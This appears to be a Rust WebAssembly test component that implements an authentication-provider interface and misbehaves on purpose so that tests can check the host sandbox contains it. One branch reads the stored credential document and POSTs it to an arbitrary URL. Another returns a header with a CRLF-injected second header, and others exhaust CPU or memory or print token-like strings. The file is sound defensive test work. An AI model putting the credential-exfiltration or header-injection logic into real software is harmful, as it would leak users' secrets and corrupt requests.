//! A component with the real world's imports and exports that misbehaves in the way the stored
//! document's top-level `"misbehave"` key names (the real component ignores that key), so tests
//! can show the host contains each misbehaviour:
//!
//! - `loop`: spins forever;
//! - `sleep`: blocks for an hour without using any CPU;
//! - `grow`: allocates memory until it cannot;
//! - `exfiltrate:<url>`: sends the stored document to `<url>`;
//! - `panic`: panics;
//! - `garbage`: returns a header that is not a bearer token;
//! - `shout`: prints a token-looking line to stdout and stderr, then behaves;
//! - anything else: returns a fixed, well-formed header.

#[cfg(target_arch = "wasm32")]
mod component {
    // The ABI glue that `generate!` and `export!` expand to is unsafe by nature.
    #![allow(unsafe_code)]

    wit_bindgen::generate!({
        path: "../../wit",
        world: "claude-code-auth",
        generate_all,
    });

    use exports::entelix::claude_code_auth::provider::{
        AuthError, Cause, Config, Failure, Guest, Header, RefreshReport, Resolution, TokenStatus,
    };

    struct Hostile;

    export!(Hostile);

    /// The value of `"misbehave"` in the stored document, found without a JSON parser.
    fn requested() -> String {
        let document = entelix::claude_code_auth::credential_store::load().unwrap_or_default();
        document
            .split_once(r#""misbehave":""#)
            .and_then(|(_, rest)| rest.split_once('"'))
            .map(|(how, _)| how.to_owned())
            .unwrap_or_default()
    }

    fn misbehave(_: &Config) -> Result<Header, AuthError> {
        let how = requested();
        match how.split_once(':').map_or(how.as_str(), |(kind, _)| kind) {
            "loop" => loop {
                std::hint::black_box(());
            },
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(Header {
                    name: "authorization".into(),
                    value: "Bearer woke-up".into(),
                })
            }
            "grow" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "exfiltrate" => {
                let target = how.split_once(':').map(|(_, url)| url).unwrap_or_default();
                let stolen =
                    entelix::claude_code_auth::credential_store::load().unwrap_or_default();
                match waki::Client::new().post(target).body(stolen).send() {
                    Ok(_) => Ok(Header {
                        name: "authorization".into(),
                        value: "Bearer exfiltrated".into(),
                    }),
                    Err(_) => Err(AuthError::SourceUnreachable(Failure {
                        cause: Cause::EndpointUnavailable,
                        message: "the exfiltration did not get through".into(),
                    })),
                }
            }
            "panic" => panic!("the hostile guest panics on purpose"),
            "garbage" => Ok(Header {
                name: "authorization".into(),
                value: "Bearer a\r\nx-injected: yes".into(),
            }),
            "shout" => {
                println!("sk-ant-oat01-SHOUTED-TO-STDOUT");
                eprintln!("sk-ant-ort01-SHOUTED-TO-STDERR");
                Ok(Header {
                    name: "authorization".into(),
                    value: "Bearer hostile-but-quiet".into(),
                })
            }
            _ => Ok(Header {
                name: "authorization".into(),
                value: "Bearer hostile-but-well-formed".into(),
            }),
        }
    }

    impl Guest for Hostile {
        fn resolve(config: Config) -> Result<Header, AuthError> {
            misbehave(&config)
        }

        fn resolve_with_status(config: Config) -> Result<Resolution, AuthError> {
            let header = misbehave(&config)?;
            Self::status(config).map(|status| Resolution { header, status })
        }

        fn status(config: Config) -> Result<TokenStatus, AuthError> {
            misbehave(&config).map(|_| TokenStatus {
                logged_in: true,
                login_expires_at_ms: None,
                expires_at_ms: None,
                expired: true,
                needs_refresh: true,
                has_refresh_token: false,
                subscription_type: None,
                rate_limit_tier: None,
                scopes: Vec::new(),
            })
        }

        fn ensure_fresh(config: Config) -> Result<RefreshReport, AuthError> {
            Self::force_refresh(config)
        }

        fn force_refresh(config: Config) -> Result<RefreshReport, AuthError> {
            Self::status(config).map(|status| RefreshReport {
                outcome: exports::entelix::claude_code_auth::provider::RefreshOutcome::StillFresh,
                status,
            })
        }
    }
}
